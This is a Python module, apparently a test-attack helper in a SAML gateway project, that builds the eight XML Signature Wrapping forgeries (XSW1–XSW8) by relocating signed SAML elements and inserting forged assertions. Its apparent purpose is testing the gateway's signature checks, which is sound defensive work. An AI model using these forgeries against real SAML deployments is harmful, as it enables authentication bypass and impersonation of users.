"""Signature wrapping: eight ways to put a forged element where a careless reader looks.

XSW 1 to 8 follow Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be" (2012), each on a signed Response
and on a signed assertion.
"""

import copy
from collections.abc import Callable, Mapping
from functools import partial
from types import MappingProxyType

from lxml import etree

from gateway.saml import tags
from gateway.saml.attacks.tree_changes import Node, find

_SAML = f"{{{tags.ASSERTION_NS}}}"
_SAMLP = f"{{{tags.PROTOCOL_NS}}}"
_DS = f"{{{tags.SIGNATURE_NS}}}"
_BESIDE = frozenset({"XSW3", "XSW5", "XSW7"})  # of assertions: next to the forged one in the Response, not inside of it
PLACES = (
    "saml:Advice",
    "//saml:AttributeValue",
    "//saml:SubjectConfirmationData",
    "samlp:StatusDetail",
    "//saml:NameID",
)


def bare(original: Node) -> Node:
    """A copy without its own Signature: what the digest is over."""
    copied = copy.deepcopy(original)
    copied.tail = None
    for signature in copied.findall(f"{_DS}Signature"):
        copied.remove(signature)
    return copied


def wrap_response(how: str, evil: Node, signed: Node) -> None:
    """Put the signed Response somewhere into the forged one, `evil`."""
    _HOW[how](evil, signed)


def wrap_assertion(how: str, root: Node, evil: Node, signed: Node) -> None:
    """Put the forged assertion, `evil`, where the signed one stands in the Response `root`, and that one elsewhere."""
    if how not in _BESIDE:
        root.replace(signed, evil)
        _HOW[how](evil, signed)
        return
    root.insert(root.index(signed), evil)
    if how == "XSW5":
        evil.insert(1, copy.deepcopy(find(signed, "ds:Signature")))
        root.replace(signed, bare(signed))
    elif how == "XSW7":
        holder = etree.Element(f"{_SAMLP}Extensions")
        root.insert(1, holder)
        holder.append(signed)


def put_second(number: int, first: bool, kind: str, root: Node, evil: Node) -> None:
    """A forged assertion as the first or the last child of an element; `kind` renames it: `{namespace}name`."""
    holder = list(root.iter())[number]
    if kind:
        evil.tag = kind.replace("{}", "") if kind.startswith("{") else f"{_SAML}{kind}"
    holder.insert(0 if first else len(holder), evil)


def displace(place: str, root: Node, evil: Node, signed: Node) -> None:
    """The signed assertion moved to one of `PLACES`, and the forged one where it stood."""
    root.replace(signed, evil)
    if place == "saml:Advice":
        holder = etree.SubElement(evil, f"{_SAML}Advice")
    elif place == "samlp:StatusDetail":
        holder = etree.SubElement(find(root, "samlp:Status"), f"{_SAMLP}StatusDetail")
    else:
        holder = root.xpath(place, namespaces={"saml": tags.ASSERTION_NS})[0]
    holder.append(signed)


def _signature_around(evil: Node, signed: Node, holder: Callable[[Node], Node]) -> None:
    """The forged element carries the Signature, and the Signature holds what was signed."""
    signature = copy.deepcopy(find(signed, "ds:Signature"))
    holder(signature).append(bare(signed))
    evil.insert(1, signature)


def _key_info(signature: Node) -> Node:
    found = signature.find(f"{_DS}KeyInfo")
    return etree.SubElement(signature, f"{_DS}KeyInfo") if found is None else found


def _detached(evil: Node, signed: Node) -> None:
    evil.insert(1, copy.deepcopy(find(signed, "ds:Signature")))
    evil.insert(1, bare(signed))


def _before(evil: Node, signed: Node) -> None:
    evil.insert(1, copy.deepcopy(signed))


def _at_the_end(evil: Node, signed: Node) -> None:
    evil.append(copy.deepcopy(signed))


def _signature_here_signed_behind(evil: Node, signed: Node) -> None:
    evil.insert(1, copy.deepcopy(find(signed, "ds:Signature")))
    evil.append(bare(signed))


def _in_extensions(evil: Node, signed: Node) -> None:
    name = f"{_SAMLP}Extensions" if evil.tag == tags.RESPONSE else f"{_SAML}Advice"
    etree.SubElement(evil, name).append(copy.deepcopy(signed))


_HOW: Mapping[str, Callable[[Node, Node], None]] = MappingProxyType(
    {
        "XSW1": partial(_signature_around, holder=lambda signature: signature),
        "XSW2": _detached,
        "XSW3": _before,
        "XSW4": _at_the_end,
        "XSW5": _signature_here_signed_behind,
        "XSW6": partial(_signature_around, holder=_key_info),
        "XSW7": _in_extensions,
        "XSW8": partial(_signature_around, holder=lambda signature: etree.SubElement(signature, f"{_DS}Object")),
    }
)
HOW = tuple(_HOW)
